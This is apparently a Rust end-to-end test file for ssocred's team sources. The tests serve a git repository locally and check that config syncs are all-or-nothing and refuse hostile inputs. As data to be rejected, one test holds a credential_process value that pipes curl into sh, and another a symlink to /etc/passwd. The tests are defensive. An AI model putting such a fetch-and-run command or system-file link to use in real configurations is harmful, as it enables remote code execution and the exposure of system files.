//! Team sources with a real `git`: a bare repository on disk, served by a
//! `git daemon` on 127.0.0.1 that the test starts; `ssocred source add`
//! and `ssocred sync` write one marked block, all or nothing, and botocore
//! reads what they wrote.
//!
//! Unix only (tests/e2e/main.rs): `git daemon`, and symbolic links in the
//! repository. Without `git` each test skips loudly; `SSOCRED_REQUIRE_TOOLS=1` (set by
//! scripts/test) makes that a failure.

use std::path::PathBuf;
use std::process::{Child, Command, Stdio};

use ssocred_test_support::real_tool;

use crate::world::*;

/// The user's own config in these tests: a profile of theirs, with a
/// comment and odd spacing that must survive byte for byte.
const MINE: &str =
    "# my own\n[profile mine]\nregion   =  us-west-2\n\n[profile tools]\nregion = ap-south-1\n";

/// A team file: the corp login, naming rules and two plain profiles.
pub(crate) const TEAM: &str = r#"# the platform team's file
[sso-session.corp]
start_url = "https://d-corp.awsapps.com/start"
region = "us-east-1"
scopes = ["sso:account:access"]

[discover]
profile_name = "{{alias}}-{{role_name}}"
region = "eu-west-1"

[account.123456789012]
alias = "prod"
region = "eu-central-1"
tags = { env = "prod" }

[account.210987654321]
alias = "dev"

[exclude]
roles = ["Admin"]

[profile.team-prod]
sso_session = "corp"
sso_account_id = "123456789012"
sso_role_name = "ReadOnly"
region = "eu-west-1"
output = "json"

[profile.tools]
region = "eu-west-1"
"#;

/// A git repository of files, and its bare clone that sources read.
pub(crate) struct Repo {
    git: PathBuf,
    dir: tempfile::TempDir,
}

impl Repo {
    /// A repository whose first commit holds `files` (path, text), tagged
    /// `v1`; `None` without git (after a loud skip).
    pub(crate) fn new(what: &str, files: &[(&str, &str)]) -> Option<Repo> {
        let git = real_tool("git", what)?;
        let repo = Repo {
            git,
            dir: tempfile::tempdir().unwrap(),
        };
        repo.run(&["init", "--quiet", "-b", "main", "work"], None);
        repo.commit(files, "first");
        repo.run(&["tag", "v1"], Some("work"));
        repo.run(&["clone", "--quiet", "--bare", "work", "team.git"], None);
        Some(repo)
    }

    /// Runs git in the repository's directory (or `sub` of it), with no
    /// configuration of the test's user.
    fn run(&self, args: &[&str], sub: Option<&str>) {
        let dir = sub.map_or(self.dir.path().to_path_buf(), |s| self.dir.path().join(s));
        let out = Command::new(&self.git)
            .args(["-c", "user.name=Team", "-c", "user.email=team@example.com"])
            .args(["-c", "commit.gpgsign=false", "-c", "tag.gpgsign=false"])
            .args(args)
            .current_dir(dir)
            .env("HOME", self.dir.path())
            .env("GIT_CONFIG_NOSYSTEM", "1")
            .output()
            .unwrap();
        assert!(out.status.success(), "git {args:?}: {}", text(&out.stderr));
    }

    /// Commits `files` in the work tree (a text of `@LINK:target` makes a
    /// symbolic link) and pushes `main` and the tags to the bare clone.
    fn commit(&self, files: &[(&str, &str)], message: &str) {
        let work = self.dir.path().join("work");
        for (path, body) in files {
            let file = work.join(path);
            std::fs::create_dir_all(file.parent().unwrap()).unwrap();
            let _ = std::fs::remove_file(&file);
            match body.strip_prefix("@LINK:") {
                Some(target) => std::os::unix::fs::symlink(target, &file).unwrap(),
                None => std::fs::write(&file, body).unwrap(),
            }
        }
        self.run(&["add", "--all"], Some("work"));
        self.run(&["commit", "--quiet", "-m", message], Some("work"));
        if self.bare().exists() {
            self.run(
                &[
                    "push",
                    "--quiet",
                    "--force",
                    "--tags",
                    "../team.git",
                    "main",
                ],
                Some("work"),
            );
        }
    }

    pub(crate) fn bare(&self) -> PathBuf {
        self.dir.path().join("team.git")
    }

    /// Serves the bare clone with `git daemon` on 127.0.0.1.
    fn serve(&self) -> Daemon {
        let port = std::net::TcpListener::bind("127.0.0.1:0")
            .unwrap()
            .local_addr()
            .unwrap()
            .port();
        let child = Command::new(&self.git)
            .arg("daemon")
            .arg("--reuseaddr")
            .arg("--export-all")
            .arg("--listen=127.0.0.1")
            .arg(format!("--port={port}"))
            .arg(format!("--base-path={}", self.dir.path().display()))
            .arg(self.dir.path())
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .unwrap();
        let daemon = Daemon { child, port };
        wait_for(std::time::Duration::from_secs(20), || {
            std::net::TcpStream::connect(("127.0.0.1", port))
                .map_err(|e| format!("git daemon does not listen on {port}: {e}"))
        });
        daemon
    }
}

/// A `git daemon`, stopped when dropped.
struct Daemon {
    child: Child,
    port: u16,
}

impl Daemon {
    fn url(&self) -> String {
        format!("git://127.0.0.1:{}/team.git", self.port)
    }
}

impl Drop for Daemon {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

/// `ssocred sync` on a pseudo-terminal (tests/interop/pty_run.py), typing
/// each answer once its prompt shows.
fn on_terminal(w: &World, python: &std::path::Path, steps: &[[&str; 2]]) -> serde_json::Value {
    let script = format!("{}/../tests/interop/pty_run.py", env!("CARGO_MANIFEST_DIR"));
    let out = w
        .command(python)
        .arg(script)
        .arg(serde_json::json!(steps).to_string())
        .arg("--")
        .arg(env!("CARGO_BIN_EXE_ssocred"))
        .arg("sync")
        .env("TERM", "xterm")
        .run_to_end();
    ok_json(&out)
}

fn world_with(config: &str) -> World {
    let w = World::new();
    w.write_config(config);
    w
}

fn config_of(w: &World) -> Vec<u8> {
    std::fs::read(w.config_path()).unwrap()
}

/// `source add team URL ARGS...`, which must succeed.
fn add(w: &World, url: &str, args: &[&str]) {
    let mut all = vec!["source", "add", "team", url];
    all.extend_from_slice(args);
    ok(&w.run(&all));
}

#[test]
fn a_source_over_git_daemon_syncs_one_block_the_same_for_two_users_and_botocore_reads_it() {
    let Some(repo) = Repo::new(
        "team sources over git daemon",
        &[("ssocred-team.toml", TEAM)],
    ) else {
        return;
    };
    let daemon = repo.serve();
    let (alice, bob) = (world_with(MINE), world_with(MINE));
    for w in [&alice, &bob] {
        add(w, &daemon.url(), &["--ref", "v1"]);
        // A dry run prints the diff and writes nothing.
        let dry = w.run(&["sync", "--dry-run"]);
        let diff = ok(&dry);
        assert!(diff.contains("+# BEGIN ssocred source: team"), "{diff}");
        assert_eq!(config_of(w), MINE.as_bytes());
        let out = w.run(&["sync"]);
        let shown = ok(&out);
        assert_eq!(shown, diff, "sync prints the diff it writes");
        let err = stderr(&out);
        assert!(
            err.contains("[profile tools] of source `team` is left out"),
            "the user's profile wins over the source's: {err}"
        );
    }
    let written = config_of(&alice);
    assert_eq!(written, config_of(&bob), "two users get the same bytes");
    let text = String::from_utf8(written).unwrap();
    assert!(text.starts_with(MINE), "the user's own text stays: {text}");
    assert!(text.contains("# Written by `ssocred sync` from team source `team` at "));
    assert!(
        text.contains("[sso-session corp]\nsso_start_url = https://d-corp.awsapps.com/start\n")
    );
    assert_eq!(text.matches("[profile tools]").count(), 1, "{text}");
    // Again: nothing changes.
    let again = alice.run(&["sync", "team"]);
    assert_eq!(ok(&again), "");
    assert_eq!(config_of(&alice), text.as_bytes());
    let listed = ok(&alice.run(&["source", "list"]));
    assert!(
        listed.starts_with("team\tgit://127.0.0.1:") && listed.contains("synced="),
        "{listed}"
    );

    if let Some(python) = python("botocore reads a synced config") {
        let results = python_json(&alice, &python, "boto3_profiles.py", &["team-prod"]);
        let only = &results[0];
        assert_eq!(only["method"], "sso", "{results}");
        assert_eq!(only["region"], "eu-west-1", "{results}");
        assert!(
            only["access_key"].as_str().is_some_and(|k| !k.is_empty()),
            "{results}"
        );
    }

    // Removing the source takes its block out again.
    ok(&alice.run(&["source", "remove", "team"]));
    let left = String::from_utf8(config_of(&alice)).unwrap();
    assert!(!left.contains("ssocred source"), "{left}");
    assert!(left.starts_with(MINE), "{left}");
}

#[test]
fn a_credential_process_key_is_refused_with_exit_2_naming_source_file_and_line() {
    let refused =
        "[profile.x]\nregion = \"eu-west-1\"\ncredential_process = \"sh -c 'curl evil | sh'\"\n";
    let Some(repo) = Repo::new(
        "a refused team source",
        &[("team/ssocred-team.toml", refused)],
    ) else {
        return;
    };
    let w = world_with(MINE);
    add(
        &w,
        &repo.bare().display().to_string(),
        &["--path", "team/ssocred-team.toml"],
    );
    let out = w.run(&["sync"]);
    assert_eq!(out.status.code(), Some(2), "{}", stderr(&out));
    let err = stderr(&out);
    assert!(
        err.contains("source `team`: team/ssocred-team.toml, line 3")
            && err.contains("`credential_process` is refused"),
        "{err}"
    );
    assert_eq!(config_of(&w), MINE.as_bytes(), "nothing is written");
}

#[test]
fn hostile_and_broken_sources_leave_the_config_byte_identical() {
    let huge = format!("# padding\n{}", "# x\n".repeat(80 * 1024));
    let Some(repo) = Repo::new(
        "hostile team sources",
        &[
            ("ssocred-team.toml", TEAM),
            ("huge.toml", &huge),
            ("bad.toml", "[profile.x\nregion = 1\n"),
            ("value.toml", "[profile.x]\noutput = \"html\"\n"),
        ],
    ) else {
        return;
    };
    repo.commit(&[("link.toml", "@LINK:/etc/passwd")], "a link");
    let url = repo.bare().display().to_string();
    for (path, code, says) in [
        ("huge.toml", 2, "over the limit"),
        ("bad.toml", 3, "line 1"),
        ("value.toml", 3, "line 2"),
        ("missing.toml", 2, "no such file"),
        ("link.toml", 2, "a symbolic link"),
    ] {
        let w = world_with(MINE);
        add(&w, &url, &["--path", path]);
        let out = w.run(&["sync"]);
        let err = stderr(&out);
        assert_eq!(out.status.code(), Some(code), "{path}: {err}");
        assert!(
            err.contains(says) && err.contains("source `team`"),
            "{path}: {err}"
        );
        assert_eq!(config_of(&w), MINE.as_bytes(), "{path}: nothing is written");
    }

    // All or nothing: a good source and a bad one write nothing at all.
    let w = world_with(MINE);
    ok(&w.run(&["source", "add", "good", &url]));
    add(&w, &url, &["--path", "bad.toml"]);
    let out = w.run(&["sync"]);
    assert_eq!(out.status.code(), Some(3), "{}", stderr(&out));
    assert_eq!(config_of(&w), MINE.as_bytes());

    // The record of the sources is never read through a link.
    let record = w.state_dir().join("sources.json");
    let elsewhere = w.home().join("planted.json");
    std::fs::rename(&record, &elsewhere).unwrap();
    std::os::unix::fs::symlink(&elsewhere, &record).unwrap();
    let out = w.run(&["source", "list"]);
    assert_eq!(out.status.code(), Some(3), "{}", stderr(&out));
    assert!(stderr(&out).contains("sources.json"), "{}", stderr(&out));

    // A server that takes the connection and never answers: git is
    // stopped after SSOCRED_GIT_TIMEOUT_SECS, exit 6, nothing written.
    let silent = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let url = format!("git://{}/team.git", silent.local_addr().unwrap());
    let w = world_with(MINE);
    add(&w, &url, &[]);
    let started = std::time::Instant::now();
    let out = w
        .cmd()
        .args(["sync"])
        .env("SSOCRED_GIT_TIMEOUT_SECS", "2")
        .run_to_end();
    assert_eq!(out.status.code(), Some(6), "{}", stderr(&out));
    assert!(
        stderr(&out).contains("no answer within 2 s"),
        "{}",
        stderr(&out)
    );
    assert!(started.elapsed() < std::time::Duration::from_secs(30));
    assert_eq!(config_of(&w), MINE.as_bytes());
    drop(silent);

    // No daemon on the port: exit 6, nothing written.
    let port = std::net::TcpListener::bind("127.0.0.1:0")
        .unwrap()
        .local_addr()
        .unwrap()
        .port();
    let url = format!("git://127.0.0.1:{port}/team.git");
    let w = world_with(MINE);
    add(&w, &url, &[]);
    let out = w.run(&["sync"]);
    assert_eq!(out.status.code(), Some(6), "{}", stderr(&out));
    assert!(
        stderr(&out).contains("team source `team`"),
        "{}",
        stderr(&out)
    );
    assert_eq!(config_of(&w), MINE.as_bytes());
}

#[test]
fn a_moving_branch_is_synced_only_once_accepted_and_a_pinned_tag_stays() {
    let Some(repo) = Repo::new("a moving team source", &[("ssocred-team.toml", TEAM)]) else {
        return;
    };
    let url = repo.bare().display().to_string();
    let (pinned, moving) = (world_with(MINE), world_with(MINE));
    add(&pinned, &url, &["--ref", "v1"]);
    add(&moving, &url, &["--ref", "main"]);
    ok(&pinned.run(&["sync"]));
    // Without a terminal, a branch's content is written only once accepted.
    let refused = moving.run(&["sync"]);
    assert_eq!(refused.status.code(), Some(2), "{}", stderr(&refused));
    assert!(stderr(&refused).contains("--yes"), "{}", stderr(&refused));
    assert_eq!(config_of(&moving), MINE.as_bytes());
    ok(&moving.run(&["sync", "--yes"]));
    // What was accepted stays accepted.
    assert_eq!(ok(&moving.run(&["sync"])), "");
    let changed = TEAM.replace("output = \"json\"", "output = \"table\"");
    repo.commit(&[("ssocred-team.toml", &changed)], "table output");
    let before = config_of(&moving);
    assert_eq!(moving.run(&["sync"]).status.code(), Some(2));
    assert_eq!(
        config_of(&moving),
        before,
        "a new commit is not accepted yet"
    );
    let shown = ok(&moving.run(&["sync", "--dry-run"]));
    // On a terminal the diff is shown and the question asked: no writes
    // nothing.
    if let Some(python) = python("sync asks on a terminal") {
        let declined = on_terminal(&moving, &python, &[["Write this", "n\r"]]);
        assert_eq!(declined["code"], 2, "{declined:#}");
        let shown_there = declined["stdout"].as_str().unwrap();
        assert!(shown_there.contains("+output = table"), "{declined:#}");
        let screen = declined["screen"].as_str().unwrap();
        assert!(screen.contains("not written"), "{declined:#}");
        assert_eq!(config_of(&moving), before, "declined: nothing written");
    }
    let diff = ok(&moving.run(&["sync", "-y"]));
    assert_eq!(shown, diff);
    assert!(
        diff.contains("-output = json") && diff.contains("+output = table"),
        "{diff}"
    );
    assert_eq!(ok(&pinned.run(&["sync"])), "", "a tag stays where it was");
    // A source named twice is refused; a new ref for it is taken.
    let again = pinned.run(&["source", "add", "team", "/elsewhere.git"]);
    assert_eq!(again.status.code(), Some(2));
    add(&pinned, &url, &["--ref", "main"]);
    assert!(ok(&pinned.run(&["sync", "--yes"])).contains("+output = table"));
}

#[test]
fn discover_takes_the_sources_naming_regions_and_excludes_so_two_users_get_the_same_profiles() {
    let Some(repo) = Repo::new(
        "discovery from a team source",
        &[("ssocred-team.toml", TEAM)],
    ) else {
        return;
    };
    let url = repo.bare().display().to_string();
    let (alice, bob) = (world_with(MINE), world_with(MINE));
    for w in [&alice, &bob] {
        add(w, &url, &["--ref", "v1"]);
        ok(&w.run(&["sync"]));
        let out = w.run(&["discover", "-p", "team-prod"]);
        ok(&out);
        assert!(
            stderr(&out).contains("from team source `team`"),
            "{}",
            stderr(&out)
        );
    }
    let text = String::from_utf8(config_of(&alice)).unwrap();
    assert_eq!(
        text.as_bytes(),
        config_of(&bob),
        "two users, the same bytes"
    );
    let block = &text[text
        .find("# BEGIN ssocred discover")
        .expect("a discover block")..];
    for name in ["prod-ReadOnly", "dev-Developer", "dev-My.Role+x_y_z@w"] {
        assert!(
            block.contains(&format!("[profile {name}]\n")),
            "{name}: {block}"
        );
    }
    assert!(
        !block.contains("Admin"),
        "the source excludes Admin: {block}"
    );
    // The account's own region, else the source's.
    let section = |name: &str| {
        let from = block.find(&format!("[profile {name}]")).unwrap();
        let rest = &block[from..];
        rest[..rest[1..].find("\n[").map_or(rest.len(), |i| i + 1)].to_owned()
    };
    assert!(
        section("prod-ReadOnly").contains("region = eu-central-1"),
        "{block}"
    );
    assert!(
        section("dev-Developer").contains("region = eu-west-1"),
        "{block}"
    );
    // --profile-name and --region on the command line still win.
    let out = alice.run(&[
        "discover",
        "-p",
        "team-prod",
        "--dry-run",
        "--profile-name",
        "x-{{role_name}}",
        "--region",
        "us-east-2",
    ]);
    let diff = ok(&out);
    assert!(
        diff.contains("+[profile x-ReadOnly]") && diff.contains("+region = us-east-2"),
        "{diff}"
    );

    // list --tag picks the accounts the source tags so.
    let tagged = ok(&alice.run(&["list", "-p", "team-prod", "--tag", "env=prod"]));
    assert!(
        tagged.contains("role/ReadOnly") && tagged.contains("role/Admin"),
        "{tagged}"
    );
    assert!(!tagged.contains("Developer"), "{tagged}");
    let none = ok(&alice.run(&["list", "-p", "team-prod", "--tag", "env=dev"]));
    assert_eq!(none.lines().count(), 1, "the header only: {none}");

    if let Some(python) = python("botocore reads profiles discovered from a team source") {
        let results = python_json(&alice, &python, "boto3_profiles.py", &["prod-ReadOnly"]);
        assert_eq!(results[0]["method"], "custom-process", "{results}");
        assert_eq!(results[0]["region"], "eu-central-1", "{results}");
    }
}

/// `[sources] sync = "daily"`: a credential call gives its answer, then
/// starts the due sync as a process of its own, which writes what a sync
/// without a terminal writes; the next one a day later. Without the
/// setting nothing is synced unasked.
#[test]
fn a_daily_sync_runs_after_a_credential_answer_once_a_day() {
    let Some(repo) = Repo::new("the daily sync", &[("ssocred-team.toml", TEAM)]) else {
        return;
    };
    let url = repo.bare().display().to_string();
    let w = world_with(MINE);
    add(&w, &url, &["--ref", "v1"]);
    ok(&w.run(&["sync"]));
    let pin = |tag: &str, output: &str| {
        let changed = TEAM.replace("output = \"json\"", &format!("output = \"{output}\""));
        repo.commit(&[("ssocred-team.toml", &changed)], output);
        repo.run(&["tag", tag], Some("work"));
        repo.run(&["push", "--quiet", "--tags", "../team.git"], Some("work"));
        add(&w, &url, &["--ref", tag]);
    };
    let answer = || {
        let out = w.run(&["-p", "team-prod", "--sink", "process"]);
        assert_eq!(ok_json(&out)["Version"], 1);
    };
    let stamp = w.state_dir().join("auto-sync.stamp");
    let synced_to = |output: &str| {
        let line = format!("\noutput = {output}\n");
        wait_for(std::time::Duration::from_secs(30), || {
            let text = String::from_utf8(config_of(&w)).unwrap();
            if text.contains(&line) {
                Ok(())
            } else {
                let log = std::fs::read_to_string(w.state_dir().join("auto-sync.log"));
                Err(format!("not synced to {output}: {text}\nlog: {log:?}"))
            }
        });
    };

    // The default is manual: a new pin waits for `ssocred sync`.
    pin("v2", "text");
    answer();
    std::thread::sleep(std::time::Duration::from_secs(1));
    assert!(!stamp.exists());
    assert!(
        String::from_utf8(config_of(&w))
            .unwrap()
            .contains("\noutput = json\n")
    );

    let config = w.home().join(".config/ssocred/config.toml");
    std::fs::create_dir_all(config.parent().unwrap()).unwrap();
    std::fs::write(&config, "[sources]\nsync = \"daily\"\n").unwrap();
    answer();
    synced_to("text");
    let log = std::fs::read_to_string(w.state_dir().join("auto-sync.log")).unwrap();
    assert!(log.contains("the daily sync of team sources"), "{log}");
    assert!(
        log.contains("+output = text"),
        "the log holds the diff: {log}"
    );
    let began = std::fs::read_to_string(&stamp).unwrap();

    // Within the day: no second sync.
    pin("v3", "table");
    answer();
    std::thread::sleep(std::time::Duration::from_secs(1));
    assert_eq!(std::fs::read_to_string(&stamp).unwrap(), began);
    assert!(
        String::from_utf8(config_of(&w))
            .unwrap()
            .contains("\noutput = text\n")
    );
    // A day later: the next.
    let day_ago: i64 = began.trim().parse::<i64>().unwrap() - 24 * 3600;
    std::fs::write(&stamp, day_ago.to_string()).unwrap();
    answer();
    synced_to("table");
    // A moving ref's new content is not accepted unasked: the log says so.
    let moved = TEAM.replace("output = \"json\"", "output = \"yaml\"");
    repo.commit(&[("ssocred-team.toml", &moved)], "yaml");
    add(&w, &url, &["--ref", "main"]);
    std::fs::write(&stamp, day_ago.to_string()).unwrap();
    answer();
    wait_for(
        std::time::Duration::from_secs(30),
        || match std::fs::read_to_string(w.state_dir().join("auto-sync.log")) {
            Ok(log) if log.contains("--yes") => Ok(()),
            other => Err(format!("{other:?}")),
        },
    );
    assert!(
        String::from_utf8(config_of(&w))
            .unwrap()
            .contains("\noutput = table\n")
    );
}
